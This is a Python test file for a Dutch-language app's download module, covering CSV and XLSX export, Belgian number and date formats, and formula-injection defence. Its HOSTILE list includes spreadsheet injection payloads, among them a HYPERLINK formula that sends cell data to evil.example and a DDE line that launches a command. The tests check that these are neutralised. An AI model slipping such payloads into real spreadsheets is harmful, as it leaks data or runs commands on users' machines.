"""Download files: the same format on every page."""

from __future__ import annotations

import io
import zipfile

import polars as pl
import pytest

from popmgmt.views import downloads

TABLE = pl.DataFrame({"Gemeente": ["Één (1)", "Twee (2)"], "Waarde": ["5,0 %", "onderdrukt (< 5)"]})


def test_csv_is_comma_separated_utf8_with_bom_and_reads_back() -> None:
    data = downloads.csv_bytes(TABLE)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines()[0] == "Gemeente,Waarde"
    assert pl.read_csv(io.BytesIO(data), infer_schema=False).equals(TABLE)


def test_xlsx_holds_the_table_and_the_notes_on_their_own_sheet() -> None:
    xlsx = downloads.xlsx_bytes(TABLE, sheet="gemeenten/2024", notes=["Bron: demo"])
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        workbook = book.read("xl/workbook.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
    assert 'name="gemeenten2024"' in workbook
    assert 'name="Toelichting"' in workbook
    for expected in ("Één (1)", "onderdrukt (&lt; 5)", "Bron: demo"):
        assert expected in strings


def test_sheet_names_are_made_valid() -> None:
    assert downloads.sheet_name("a/b:c*d?e[f]" + "x" * 40) == ("abcdef" + "x" * 40)[:31]
    assert downloads.sheet_name("///") == "Tabel"


# --- formula injection ------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _hostile_frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "Label": [*HOSTILE, "gewoon", "5,0 %"],
            "Categorie": pl.Series([*HOSTILE, "a", "b"], dtype=pl.Categorical),
            "Getal": [-1.5] * (len(HOSTILE) + 2),
        }
    ).with_columns(pl.col("Getal").alias("=kolom"))


def test_neutralise() -> None:
    for text in HOSTILE:
        assert downloads.neutralise(text) == f"'{text}"
    for text in ("gewoon", "5,0 %", "", " =niet vooraan", "'=al geneutraliseerd"):
        assert downloads.neutralise(text) == text


def test_csv_cells_never_start_a_formula() -> None:
    """Given text that a spreadsheet would run as a formula, every such CSV cell (and
    column name) starts with `'`; plain text and numbers are unchanged."""
    data = downloads.csv_bytes(_hostile_frame())
    back = pl.read_csv(io.BytesIO(data), infer_schema=False)
    assert back.columns == ["Label", "Categorie", "Getal", "'=kolom"]
    assert back["Label"].to_list() == [f"'{t}" for t in HOSTILE] + ["gewoon", "5,0 %"]
    assert back["Categorie"].to_list()[: len(HOSTILE)] == [f"'{t}" for t in HOSTILE]
    assert set(back["Getal"].to_list()) == {"-1.5"}  # a negative number stays a number


def _xlsx_cells(xlsx: bytes) -> tuple[list[str], str]:
    """The shared strings of the workbook and the XML of the first sheet."""
    import re  # noqa: PLC0415
    from html import unescape  # noqa: PLC0415

    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        strings = book.read("xl/sharedStrings.xml").decode()
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    values = [
        unescape(v).replace("_x000D_", "\r")
        for v in re.findall(r"<t[^>]*>(.*?)</t>", strings, re.DOTALL)
    ]
    return values, sheet


def test_xlsx_cells_are_text_and_never_start_a_formula() -> None:
    xlsx = downloads.xlsx_bytes(_hostile_frame(), notes=["=HYPERLINK(1)", "Bron: demo"])
    strings, sheet = _xlsx_cells(xlsx)
    assert "<f>" not in sheet  # no formula cell at all
    for text in HOSTILE:
        assert f"'{text}" in strings, text
        assert text not in strings
    assert "'=kolom" in strings
    assert "'=HYPERLINK(1)" in strings  # the notes sheet too
    assert "Bron: demo" in strings


def test_every_export_goes_through_downloads() -> None:
    """No page or page helper writes a CSV or spreadsheet itself (it would skip the
    formula neutralisation): only `popmgmt.views.downloads` does (and the demo generator,
    which writes raw input files, not downloads)."""
    from pathlib import Path  # noqa: PLC0415

    root = Path(__file__).resolve().parents[2]
    writers = ("write_csv(", "write_excel(", "xlsxwriter", "to_csv(", "csv.writer(")
    allowed = {"downloads.py", "demo.py", "build.py", "transform.py", "validate.py", "cli.py"}
    files = [*(root / "src" / "popmgmt").rglob("*.py"), *(root / "pages").glob("*.py")]
    offenders = [
        f"{path.name}: {w}"
        for path in files
        if path.name not in allowed
        for w in writers
        if w in path.read_text(encoding="utf-8")
    ]
    assert offenders == []


# --- Belgian Excel ----------------------------------------------------------------------

NUMBERS = pl.DataFrame(
    {
        "Gemeente": ["Één", "Twee;drie", '=SUM("x")'],
        "Inwoners": [12_345, 6_789, 5],
        "Aandeel": [67.25, -1.5, 0.0],
        "Tekst": ["67,3 %", "onderdrukt (< 5)", "1.234"],
    }
)


def test_excel_csv_has_bom_semicolons_and_decimal_commas() -> None:
    """Given a table with decimals, the Excel CSV starts with the UTF-8 BOM, separates
    with `;` and writes `67,25` (quoting text that holds a `;`)."""
    data = downloads.excel_csv_bytes(NUMBERS)
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0] == "Gemeente;Inwoners;Aandeel;Tekst"
    assert lines[1] == "Één;12345;67,25;67,3 %"
    assert lines[2].startswith('"Twee;drie";6789;-1,5;')
    assert lines[3].startswith('"\'=SUM(""x"")";5;0,0;')  # neutralised, quoted


def test_excel_csv_round_trips_through_polars() -> None:
    data = downloads.excel_csv_bytes(NUMBERS)
    back = pl.read_csv(io.BytesIO(data), separator=";", decimal_comma=True)
    assert back.columns == NUMBERS.columns
    assert back["Inwoners"].to_list() == [12_345, 6_789, 5]
    assert back["Aandeel"].to_list() == [67.25, -1.5, 0.0]
    assert back["Tekst"].to_list() == ["67,3 %", "onderdrukt (< 5)", "1.234"]
    assert back["Gemeente"].to_list()[:2] == ["Één", "Twee;drie"]


def test_analyst_csv_is_plain_comma_and_point() -> None:
    lines = downloads.csv_bytes(NUMBERS).decode("utf-8-sig").splitlines()
    assert lines[0] == "Gemeente,Inwoners,Aandeel,Tekst"
    assert lines[1] == 'Één,12345,67.25,"67,3 %"'


def test_formats_and_file_names() -> None:
    assert [f.key for f in downloads.FORMATS] == ["xlsx", "csv_excel", "csv"]
    assert [f.label for f in downloads.FORMATS] == [
        "Excel (XLSX)",
        "CSV voor Excel",
        "CSV voor analisten",
    ]
    assert downloads.file_name("trend_x", "xlsx") == "trend_x.xlsx"
    assert downloads.file_name("trend_x", "csv_excel") == "trend_x_excel.csv"
    assert downloads.file_name("trend_x", "csv") == "trend_x.csv"
    for fmt in downloads.FORMATS:
        assert downloads.format_bytes(fmt.key, NUMBERS)
    with pytest.raises(ValueError, match="unknown download format"):
        downloads.format_bytes("pdf", NUMBERS)


@pytest.mark.parametrize(
    ("text", "value", "num_format"),
    [
        ("1.234", 1234.0, "#,##0"),
        ("1.234.567,89", 1234567.89, "#,##0.00"),
        ("67,3", 67.3, "#,##0.0"),
        ("67,3 %", 67.3, '#,##0.0" %"'),
        ("5%", 5.0, '#,##0"%"'),
        ("-1,5", -1.5, "#,##0.0"),
        ("\u22121,5", -1.5, "#,##0.0"),
    ],
)
def test_dutch_numbers_are_read(text: str, value: float, num_format: str) -> None:
    parsed = downloads.dutch_number(text)
    assert parsed is not None
    assert parsed.value == pytest.approx(value)
    assert parsed.num_format == num_format


@pytest.mark.parametrize(
    "text",
    ["11001", "2024", "1.2.3", "12,3 per 10.000", "onderdrukt (< 5)", "95%-BI 1,0 – 2,0 %", ""],
)
def test_codes_years_and_other_text_stay_text(text: str) -> None:
    assert downloads.dutch_number(text) is None


def test_xlsx_writes_dutch_text_numbers_as_numbers_with_a_format() -> None:
    """Given a table whose numbers are Dutch text (as on the page), the XLSX holds them
    as numbers with a number format of the same decimals; codes and words stay text."""
    table = pl.DataFrame(
        {
            "REFNIS": ["11001", "11002"],
            "Waarde": ["67,3 %", "onderdrukt (< 5)"],
            "Inwoners": ["1.234", "-2.345"],
            "Jaar": [2024, 2024],
        }
    )
    strings, sheet = _xlsx_cells(downloads.xlsx_bytes(table))
    assert "11001" in strings  # a code stays text
    assert "onderdrukt (< 5)" in strings
    assert "67,3 %" not in strings
    assert "1.234" not in strings
    assert "<v>67.3</v>" in sheet
    assert "<v>1234</v>" in sheet
    assert "<v>-2345</v>" in sheet
    assert "<v>2024</v>" in sheet
    import zipfile as _zip  # noqa: PLC0415

    with _zip.ZipFile(io.BytesIO(downloads.xlsx_bytes(table))) as book:
        styles = book.read("xl/styles.xml").decode()
    assert 'formatCode="#,##0.0&quot; %&quot;"' in styles
    assert 'formatCode="#,##0"' in styles


def test_xlsx_dates_are_date_cells_in_dutch_order() -> None:
    import datetime as dt  # noqa: PLC0415

    table = pl.DataFrame({"Datum": [dt.date(2024, 3, 1)], "Label": ["maatregel"]})
    xlsx = downloads.xlsx_bytes(table)
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        styles = book.read("xl/styles.xml").decode()
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert 'formatCode="dd/mm/yyyy"' in styles
    assert "<v>45352</v>" in sheet  # 1 March 2024 as an Excel date serial
